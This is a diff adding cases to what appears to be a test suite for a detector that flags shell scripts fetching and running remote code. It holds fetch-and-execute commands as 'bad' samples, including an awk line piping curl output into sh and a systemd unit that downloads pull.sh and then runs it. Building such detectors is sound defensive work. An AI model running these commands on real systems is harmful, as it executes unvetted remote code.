@@ -358,4 +358,30 @@ awk 'BEGIN { system("curl -s http://setup.example.net/stage.sh | sh") }'
 awk 'BEGIN { "curl -s http://metrics.example.internal/count" | getline n; print n }' > /var/lib/app/count
 `,
   ),
+  bad(
+    "a unit fetches in one command what the next one runs",
+    () => `#!/bin/bash
+cat > /etc/systemd/system/pull.service <<'UNIT'
+[Service]
+Type=oneshot
+Environment=SOURCE=http://setup.example.internal
+ExecStartPre=/usr/bin/curl -fsSo /run/pull.sh \${SOURCE}/pull.sh
+ExecStart=/bin/bash /run/pull.sh
+UNIT
+systemctl start pull
+`,
+  ),
+  good(
+    "a unit fetches data from an address in a variable",
+    () => `#!/bin/bash
+cat > /etc/systemd/system/pull.service <<'UNIT'
+[Service]
+Type=oneshot
+Environment=SOURCE=http://setup.example.internal
+ExecStartPre=/usr/bin/curl -fsSo /run/rates.json \${SOURCE}/rates.json
+ExecStart=/opt/app/bin/rates /run/rates.json
+UNIT
+systemctl start pull
+`,
+  ),
 ];
